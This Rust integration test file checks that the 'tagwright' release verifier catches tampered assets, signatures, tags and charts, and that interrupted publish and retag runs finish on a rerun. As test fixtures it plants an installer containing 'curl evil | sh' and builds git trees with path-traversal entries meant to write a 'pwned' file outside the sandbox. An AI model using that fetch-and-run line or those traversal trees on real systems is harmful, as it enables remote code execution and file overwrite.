//! `tagwright verify` of a release made by `tagwright publish`: against the real registry and real
//! git, with stand-ins for GitHub's REST API, Fulcio, Rekor and the Actions OIDC service (none of them
//! can run here). Every tampering the runbook's users fear fails, naming its check.

mod world;

use tagwright_test_support::github::TOKEN;
use tagwright_test_support::registry;
use tagwright_test_support::{Run, cargo_bin, peer_command, run, run_ok};
use world::{WORKFLOW, World, fails};

/// Uses the real registry and git, and stand-ins for GitHub, Fulcio, Rekor and the OIDC service.
#[test]
fn a_published_release_verifies_and_every_tampering_is_named() {
    let world = World::published();
    let ok = world.verify(WORKFLOW);
    assert_eq!(ok.code, 0, "{}\n{}", ok.stdout, ok.stderr);
    for check in tagwright_release::CHECKS {
        assert!(ok.stdout.contains(&format!("ok   {check}:")), "{check}:\n{}", ok.stdout);
    }
    assert!(ok.stdout.contains("signed by rel@example.com"), "{}", ok.stdout);

    // A wrong identity: every signature check fails.
    let other = world.verify(r"^https://github\.com/acme/other/");
    for check in ["release manifest signature", "chart signature", "image signature"] {
        fails(&other, check);
    }

    // A tampered asset.
    let github = tagwright_github::Github::new(&world.github.url(), Some(TOKEN)).expect("client");
    let release = github.release_by_tag("acme", "advisoryhub", "v0.1.0").expect("lookup").expect("release");
    let sbom = release.assets.iter().find(|a| a.name == "sbom.cdx.json").expect("sbom");
    github.delete_asset("acme", "advisoryhub", sbom.id).expect("delete");
    github
        .upload_asset(&release, "sbom.cdx.json", "application/json", b"{\"bomFormat\":\"CycloneDX\"}")
        .expect("upload");
    let tampered = world.verify(WORKFLOW);
    fails(&tampered, "checksums");
    fails(&tampered, "SBOM");

    // A deleted .sig (and the bundle referrer beside it): the chart is unsigned.
    let chart = format!("{}/charts/advisoryhub:0.1.0", world.host());
    let raw = run_ok(peer_command("skopeo").args([
        "inspect",
        "--raw",
        "--tls-verify=false",
        &format!("docker://{chart}"),
    ]));
    let digest = registry::digest(raw.stdout.as_bytes());
    let hex = &digest["sha256:".len()..];
    world.delete(&format!("{}/charts/advisoryhub:sha256-{hex}.sig", world.host()));
    world.delete(&format!("{}/charts/advisoryhub:sha256-{hex}", world.host()));
    fails(&world.verify(WORKFLOW), "chart signature");

    // The chart re-pushed with other bytes under its version.
    let values = world.repo.path().join("charts/advisoryhub/values.yaml");
    std::fs::write(&values, format!("{}\n# changed\n", std::fs::read_to_string(&values).unwrap_or_default()))
        .expect("write");
    let mut command = cargo_bin(env!("CARGO_BIN_EXE_oci-publish"));
    command
        .args(["chart", "push"])
        .arg(world.repo.path().join("charts/advisoryhub"))
        .arg(format!("oci://{}/charts", world.host()));
    run_ok(world.env(&mut command));
    fails(&world.verify(WORKFLOW), "manifest artifacts");

    // An artifact the manifest lists is gone: the image.
    let image = run_ok(peer_command("skopeo").args([
        "inspect",
        "--tls-verify=false",
        "--format",
        "{{.Digest}}",
        &format!("docker://{}/example/advisoryhub:0.1.0", world.host()),
    ]))
    .stdout
    .trim()
    .to_owned();
    world.delete(&format!("{}/example/advisoryhub@{image}", world.host()));
    let gone = world.verify(WORKFLOW);
    fails(&gone, "manifest artifacts");
    assert!(gone.stdout.contains("image"), "{}", gone.stdout);

    // The tag moved (signed) to a commit whose chart says another version: lockstep fails at the tag,
    // and the tag no longer names the commit the signed manifest records.
    let chart_yaml = world.repo.path().join("charts/advisoryhub/Chart.yaml");
    let text =
        std::fs::read_to_string(&chart_yaml).expect("Chart.yaml").replace("version: 0.1.0", "version: 0.1.1");
    std::fs::write(&chart_yaml, text).expect("write");
    world.git(&["commit", "-qam", "chore: chart 0.1.1"]);
    world.sign_tag("HEAD");
    let moved = world.verify(WORKFLOW);
    fails(&moved, "versions at the tag");
    fails(&moved, "signed tag");
    assert!(moved.stdout.contains("release-manifest.json records"), "{}", moved.stdout);
}

fn retag(world: &World, extra: &[&str]) -> Run {
    let mut command = cargo_bin(env!("CARGO_BIN_EXE_tagwright"));
    command.args(["retag", "v0.1.0", "--github", "acme/advisoryhub", "--charts"]);
    command
        .arg(format!("oci://{}/charts", world.host()))
        .arg("--image")
        .arg(format!("{}/example/advisoryhub", world.host()));
    command.args(extra).arg("--repo").arg(world.repo.path());
    run(world.env(&mut command))
}

/// The tags of `repository`, as skopeo lists them (none when the registry forgot the repository).
fn tags(host: &str, repository: &str) -> Vec<String> {
    let listed = run(peer_command("skopeo").args([
        "list-tags",
        "--tls-verify=false",
        &format!("docker://{host}/{repository}"),
    ]));
    serde_json::from_str::<serde_json::Value>(&listed.stdout)
        .ok()
        .and_then(|v| {
            v["Tags"].as_array().map(|t| t.iter().filter_map(|x| x.as_str().map(str::to_owned)).collect())
        })
        .unwrap_or_default()
}

/// Uses the real registry and git, and stand-ins for GitHub, Fulcio, Rekor and the OIDC service.
/// `retag --dry-run` prints the ordered plan and changes nothing; `retag` leaves no release, tag,
/// version or signature tag; a second run does nothing and says so. An immutable release is refused
/// before anything is deleted.
#[test]
fn retag_removes_everything_in_order_and_a_rerun_is_a_no_op() {
    let world = World::published();
    assert!(tags(world.host(), "charts/advisoryhub").iter().any(|t| t.ends_with(".sig")), "signed before");
    // `latest` names the same image: it goes too, and the plan says so.
    run_ok(peer_command("skopeo").args([
        "copy",
        "--src-tls-verify=false",
        "--dest-tls-verify=false",
        &format!("docker://{}/example/advisoryhub:0.1.0", world.host()),
        &format!("docker://{}/example/advisoryhub:latest", world.host()),
    ]));
    let plan = retag(&world, &["--dry-run"]);
    assert_eq!(plan.code, 0, "{}\n{}", plan.stdout, plan.stderr);
    assert!(plan.stderr.contains("shares its digest with the tag latest"), "{}", plan.stderr);
    let lines: Vec<&str> = plan.stdout.lines().collect();
    assert_eq!(lines.len(), 5, "{}", plan.stdout);
    for (line, (number, what)) in lines.iter().zip([
        ("1.", "delete the GitHub release"),
        ("2.", "delete the remote tag v0.1.0"),
        ("3.", "delete the local tag v0.1.0"),
        ("4.", "example/advisoryhub:0.1.0"),
        ("5.", "charts/advisoryhub:0.1.0"),
    ]) {
        assert!(
            line.trim_start().starts_with(number) && line.contains(what) && line.ends_with("to delete"),
            "{line}"
        );
    }
    assert!(lines[4].contains(".sig"), "the chart's signature tags go with it: {}", lines[4]);
    assert!(world.github.release_state("v0.1.0").is_some(), "a dry run deletes nothing");

    let done = retag(&world, &[]);
    assert_eq!(done.code, 0, "{}\n{}", done.stdout, done.stderr);
    assert_eq!(done.stdout.matches(": deleted").count(), 5, "{}", done.stdout);
    assert!(world.github.release_state("v0.1.0").is_none());
    assert!(!world.github.has_tag("v0.1.0"));
    assert!(world.git(&["tag", "-l", "v0.1.0"]).trim().is_empty());
    assert!(
        tags(world.host(), "charts/advisoryhub").is_empty(),
        "{:?}",
        tags(world.host(), "charts/advisoryhub")
    );
    assert!(
        tags(world.host(), "example/advisoryhub").is_empty(),
        "{:?}",
        tags(world.host(), "example/advisoryhub")
    );

    let again = retag(&world, &[]);
    assert_eq!(again.code, 0, "{}\n{}", again.stdout, again.stderr);
    assert!(again.stdout.contains("nothing to do"), "{}", again.stdout);
    assert_eq!(again.stdout.matches(": already gone").count(), 5, "{}", again.stdout);

    let immutable = World::published();
    immutable.github.make_immutable("v0.1.0");
    let refused = retag(&immutable, &[]);
    assert_eq!(refused.code, 1, "{}\n{}", refused.stdout, refused.stderr);
    assert!(
        refused.stderr.contains("immutable") && refused.stderr.contains("nothing was deleted"),
        "{}",
        refused.stderr
    );
    assert!(immutable.github.has_tag("v0.1.0") && !immutable.git(&["tag", "-l", "v0.1.0"]).trim().is_empty());
}

/// Uses the real registry and git, and stand-ins for GitHub, Fulcio, Rekor and the OIDC service.
/// `publish` interrupted at every boundary of the GitHub release (a failure after each write: the
/// draft, each upload, the publication), then run again, ends as an uninterrupted run: the same
/// assets and bytes, the same body, no duplicate asset.
#[test]
fn publish_interrupted_anywhere_finishes_on_a_rerun() {
    let reference = World::published();
    let expected = reference.release_state();
    let writes = reference.github.requests().iter().filter(|r| r.method != "GET").count();
    assert_eq!(writes, 7, "a draft, five uploads and the publication");
    for allowed in 0..writes {
        let world = World::new();
        world.github.fail_writes_after(allowed);
        let interrupted = world.publish();
        assert_eq!(interrupted.code, 1, "after {allowed} writes: {}", interrupted.stderr);
        assert!(interrupted.stderr.contains("step 6 (GitHub release)"), "{}", interrupted.stderr);
        if allowed > 0 {
            assert!(interrupted.stderr.contains("run again to finish"), "{}", interrupted.stderr);
        }
        world.github.heal();
        let finished = world.publish();
        assert_eq!(finished.code, 0, "after {allowed} writes: {}\n{}", finished.stdout, finished.stderr);
        assert_eq!(world.release_state(), expected, "after {allowed} writes");
    }
}

/// Uses the real registry and git, and stand-ins for GitHub, Fulcio, Rekor and the OIDC service.
/// `publish` interrupted between pushing the chart and signing it (Fulcio unreachable) fails at step
/// 4 with the chart pushed and nothing on GitHub; run again, it signs and finishes as an
/// uninterrupted run.
#[test]
fn publish_interrupted_before_signing_finishes_on_a_rerun() {
    let reference = World::published();
    let expected = reference.release_state();
    let world = World::new();
    let unreachable = tempfile::tempdir().expect("tempdir");
    let config = unreachable.path().join("signing_config.json");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("port");
    let closed = format!("http://{}", listener.local_addr().expect("address"));
    drop(listener);
    std::fs::write(
        &config,
        serde_json::json!({
            "caUrls": [{"url": closed, "majorApiVersion": 1}],
            "rekorTlogUrls": [{"url": closed, "majorApiVersion": 1}]
        })
        .to_string(),
    )
    .expect("write");
    let mut command = cargo_bin(env!("CARGO_BIN_EXE_tagwright"));
    command
        .args(["publish", "--charts", &format!("oci://{}/charts", world.host()), "--image"])
        .arg(format!("{}/example/advisoryhub", world.host()))
        .args(["--tag", "v0.1.0", "--github", "acme/advisoryhub", "--timeout", "10s", "--sign", "keyless"])
        .args(["--identity-token", &world.oidc.token("sigstore"), "--signing-config"])
        .arg(&config)
        .arg("--trusted-root")
        .arg(world.sigstore.trusted_root())
        .arg("--repo")
        .arg(world.repo.path());
    let interrupted = run(world.env(&mut command));
    assert_eq!(interrupted.code, 1, "{}\n{}", interrupted.stdout, interrupted.stderr);
    assert!(
        interrupted.stderr.contains("step 4") && interrupted.stderr.contains("Fulcio"),
        "{}",
        interrupted.stderr
    );
    assert!(tags(world.host(), "charts/advisoryhub").contains(&"0.1.0".to_owned()), "the chart was pushed");
    assert!(world.github.release_state("v0.1.0").is_none(), "nothing on GitHub yet");
    let finished = world.publish();
    assert_eq!(finished.code, 0, "{}\n{}", finished.stdout, finished.stderr);
    assert!(finished.stdout.contains("  signed: "), "{}", finished.stdout);
    assert_eq!(world.release_state(), expected);
}

/// Uses the real registry and git, and stand-ins for GitHub, Fulcio, Rekor and the OIDC service.
/// A retag interrupted after deleting the GitHub release (the remote tag's deletion fails) says what
/// it did and what remains; run again, it finishes, skipping what is already gone.
#[test]
fn an_interrupted_retag_finishes_on_a_rerun() {
    let world = World::published();
    world.github.fail_writes_after(1);
    let interrupted = retag(&world, &[]);
    assert_eq!(interrupted.code, 1, "{}\n{}", interrupted.stdout, interrupted.stderr);
    assert!(interrupted.stderr.contains("done: delete the GitHub release"), "{}", interrupted.stderr);
    assert!(interrupted.stderr.contains("remaining: delete the remote tag v0.1.0"), "{}", interrupted.stderr);
    assert!(interrupted.stderr.contains("run retag again to finish"), "{}", interrupted.stderr);
    assert!(world.github.release_state("v0.1.0").is_none() && world.github.has_tag("v0.1.0"));
    world.github.heal();
    let finished = retag(&world, &[]);
    assert_eq!(finished.code, 0, "{}\n{}", finished.stdout, finished.stderr);
    assert!(
        finished.stdout.contains("delete the GitHub release of v0.1.0: already gone"),
        "{}",
        finished.stdout
    );
    assert_eq!(finished.stdout.matches(": deleted").count(), 4, "{}", finished.stdout);
    assert!(!world.github.has_tag("v0.1.0") && world.git(&["tag", "-l", "v0.1.0"]).trim().is_empty());
    assert!(tags(world.host(), "charts/advisoryhub").is_empty());
}

/// Issue 21, item 6: the signed manifest lists every asset, `checksums.txt` included, so that an
/// asset added to the release fails even with its line appended to `checksums.txt`, as does an asset
/// named like the manifest's signature, and a name listed twice. Uses the stand-ins, as above.
#[test]
fn every_asset_must_be_in_the_signed_manifest() {
    let world = World::published();
    let github = tagwright_github::Github::new(&world.github.url(), Some(TOKEN)).expect("client");
    let release =
        || github.release_by_tag("acme", "advisoryhub", "v0.1.0").expect("lookup").expect("release");
    let remove = |name: &str| {
        for asset in release().assets.iter().filter(|a| a.name == name) {
            github.delete_asset("acme", "advisoryhub", asset.id).expect("delete");
        }
    };
    let original = world.github.assets_of("v0.1.0");
    let checksums =
        original.iter().find(|(n, _)| n == "checksums.txt").map(|(_, b)| b.clone()).expect("list");

    // An installer added, and listed in a checksums.txt put in place of the published one.
    let installer = b"#!/bin/sh\ncurl evil | sh\n";
    github.upload_asset(&release(), "install.sh", "text/x-sh", installer).expect("upload");
    let mut appended = checksums.clone();
    appended.extend(
        format!("{}  install.sh\n", registry::digest(installer).trim_start_matches("sha256:")).bytes(),
    );
    remove("checksums.txt");
    github.upload_asset(&release(), "checksums.txt", "text/plain", &appended).expect("upload");
    let added = world.verify(WORKFLOW);
    fails(&added, "release assets");
    assert!(
        added.stdout.contains("install.sh is on the release but not in the signed release-manifest.json")
    );
    assert!(added.stdout.contains("checksums.txt is not the sha256:"), "{}", added.stdout);
    assert!(
        added.stdout.contains("ok   checksums:"),
        "the list itself agrees with the assets: {}",
        added.stdout
    );
    remove("install.sh");
    remove("checksums.txt");
    github.upload_asset(&release(), "checksums.txt", "text/plain", &checksums).expect("upload");
    assert_eq!(world.verify(WORKFLOW).code, 0, "restored");

    // A name that only starts like the manifest's signature.
    github
        .upload_asset(&release(), "release-manifest.json.sig-installer.sh", "text/x-sh", installer)
        .expect("upload");
    let lookalike = world.verify(WORKFLOW);
    fails(&lookalike, "release assets");
    fails(&lookalike, "checksums");
    remove("release-manifest.json.sig-installer.sh");

    // The same name twice (a forge can list it so): the second copy is checked too.
    world.github.add_asset_unchecked("v0.1.0", "sbom.cdx.json", b"{\"bomFormat\":\"CycloneDX\"}");
    let twice = world.verify(WORKFLOW);
    fails(&twice, "release assets");
    assert!(twice.stdout.contains("sbom.cdx.json is on the release 2 times"), "{}", twice.stdout);
}

/// Issue 21, item 6: `verify` reads the version sources of the tag straight from the object
/// database. A tag whose tree holds entries named `../…`, `/…` or a chain of `..` subtrees, and a
/// 256 MiB blob, makes it write nothing outside (before, every blob was exported to a scratch
/// directory by joining raw entry names) and stay small. Peak RSS from GNU time.
#[test]
fn a_hostile_tag_tree_is_read_in_place() {
    let world = World::published();
    let victim = tempfile::tempdir().expect("tempdir");
    let victim_path = victim.path().to_str().expect("utf-8").trim_start_matches('/').to_owned();
    let blob = |bytes: &[u8]| {
        let mut command = peer_command("git");
        command.current_dir(world.repo.path()).args(["hash-object", "-w", "--stdin"]);
        tagwright_test_support::run_with_input(&mut command, bytes).stdout.trim().to_owned()
    };
    let raw_tree = |entries: &[(&str, &str, String)]| -> String {
        // Git's order: by name, a tree's name as if it ended with `/`.
        let mut sorted: Vec<&(&str, &str, String)> = entries.iter().collect();
        sorted.sort_by_key(|(mode, name, _)| format!("{name}{}", if *mode == "40000" { "/" } else { "" }));
        let mut bytes = Vec::new();
        for (mode, name, oid) in sorted {
            bytes.extend(format!("{mode} {name}\0").bytes());
            bytes.extend((0..20).map(|i| u8::from_str_radix(&oid[2 * i..2 * i + 2], 16).expect("hex")));
        }
        let mut command = peer_command("git");
        command.current_dir(world.repo.path()).args([
            "hash-object",
            "-t",
            "tree",
            "--literally",
            "-w",
            "--stdin",
        ]);
        tagwright_test_support::run_with_input(&mut command, &bytes).stdout.trim().to_owned()
    };
    let pwned = blob(b"pwned\n");
    // A chain of `..` subtrees that ends in the victim's path.
    let mut chain = raw_tree(&[("100644", "chain.txt", pwned.clone())]);
    for component in victim_path.split('/').rev() {
        chain = raw_tree(&[("40000", component, chain)]);
    }
    for _ in 0..12 {
        chain = raw_tree(&[("40000", "..", chain)]);
    }
    let huge = {
        let file = world.keys.path().join("huge.bin");
        std::fs::File::create(&file).expect("create").set_len(256 << 20).expect("256 MiB of zeros");
        let mut command = peer_command("git");
        command.current_dir(world.repo.path()).args(["hash-object", "-w"]).arg(&file);
        run_ok(&mut command).stdout.trim().to_owned()
    };
    // The tag's own tree, with the hostile entries beside it.
    let listing = world.git(&["ls-tree", "v0.1.0^{tree}"]);
    let mut entries: Vec<(&str, &str, String)> = listing
        .lines()
        .map(|line| {
            let (meta, name) = line.split_once('\t').expect("entry");
            let mut meta = meta.split(' ');
            let mode = if meta.next() == Some("040000") { "40000" } else { "100644" };
            (mode, name, meta.nth(1).expect("oid").to_owned())
        })
        .collect();
    let dotdot = format!("{}{victim_path}/dotdot.txt", "../".repeat(16));
    let absolute = format!("/{victim_path}/absolute.txt");
    entries.push(("100644", &dotdot, pwned.clone()));
    entries.push(("100644", &absolute, pwned.clone()));
    entries.push(("40000", "..", chain));
    entries.push(("100644", "zeros.bin", huge));
    let tree = raw_tree(&entries);
    let commit = world.git(&["commit-tree", &tree, "-p", "HEAD", "-m", "hostile"]).trim().to_owned();
    world.sign_tag(&commit);

    let (verified, peak_kib) = world.verify_measured(WORKFLOW);
    assert!(
        verified.stdout.contains("ok   versions at the tag:"),
        "{}\n{}",
        verified.stdout,
        verified.stderr
    );
    let written: Vec<_> = std::fs::read_dir(victim.path()).expect("victim").collect();
    assert!(written.is_empty(), "verify wrote outside its scratch directory: {written:?}");
    assert!(peak_kib < 128 << 10, "peak RSS {peak_kib} KiB with a 256 MiB blob in the tag's tree");
}

/// `tagwright verify v0.1.0` of the world's release, against the GitHub API at `api`.
fn verify_with_api(world: &World, api: &str, http_timeout: &str) -> std::process::Command {
    let mut command = cargo_bin(env!("CARGO_BIN_EXE_tagwright"));
    command.args(["verify", "v0.1.0", "--github", "acme/advisoryhub", "--http-timeout", http_timeout]);
    command.arg("--allowed-signers").arg(world.keys.path().join("allowed_signers"));
    command.arg("--repo").arg(world.repo.path());
    world.env(&mut command).env("GITHUB_API_URL", api);
    command
}

/// Issue 21, item 6: a GitHub API that accepts connections and never answers ends `verify` by the
/// deadline `--http-timeout` gives (before: 5 attempts of 300 s each). A hostile loopback server.
#[test]
fn a_silent_github_ends_verify_by_the_deadline() {
    use tagwright_test_support::hostile::{Hostile, Reply};
    let world = World::published();
    let silent = Hostile::start(|_| Reply::Silent);
    let mut command = verify_with_api(&world, &format!("http://{}", silent.host()), "2");
    let started = std::time::Instant::now();
    let out = run(&mut command);
    let took = started.elapsed();
    fails(&out, "GitHub release");
    assert!(out.stdout.contains("no answer within 2 s"), "{}", out.stdout);
    assert!(took < std::time::Duration::from_secs(10), "ended by the deadline: {took:?}");
}

/// Issue 22, item 7: a GitHub API that refuses connections is reported as the network error, on the
/// "GitHub release" line; the checks over the assets say that they did not run (before: "the release
/// has no release-manifest.json").
#[test]
fn an_unreachable_github_is_reported_as_the_network_error() {
    let world = World::published();
    let port = std::net::TcpListener::bind("127.0.0.1:0").expect("bind").local_addr().expect("addr").port();
    let mut command = verify_with_api(&world, &format!("http://127.0.0.1:{port}"), "20");
    let out = run(&mut command);
    fails(&out, "GitHub release");
    let line = out.stdout.lines().find(|l| l.contains("GitHub release")).expect("the line");
    assert!(line.contains(&format!("127.0.0.1:{port}")), "{line}");
    assert!(!out.stdout.contains("has no release-manifest.json"), "{}", out.stdout);
    assert!(out.stdout.contains("not checked: the GitHub release could not be read"), "{}", out.stdout);
}

/// Issue 21, item 6: `verify` holds no asset whole. Four 32 MiB assets on the release: each is
/// hashed as it downloads, so the peak stays far below their sum (before, every asset was held at
/// once: 4 × 500 MiB reached 2 GiB). Peak RSS from GNU time; the stand-in serves them.
#[test]
fn large_assets_are_hashed_as_they_arrive() {
    let world = World::published();
    let large = vec![0u8; 32 << 20];
    for name in ["a.bin", "b.bin", "c.bin", "d.bin"] {
        world.github.add_asset_unchecked("v0.1.0", name, &large);
    }
    drop(large);
    let (verified, peak_kib) = world.verify_measured(WORKFLOW);
    fails(&verified, "release assets");
    assert!(verified.stdout.contains("d.bin is on the release but not in the signed"), "{}", verified.stdout);
    assert!(peak_kib < 96 << 10, "peak RSS {peak_kib} KiB for four 32 MiB assets");
}
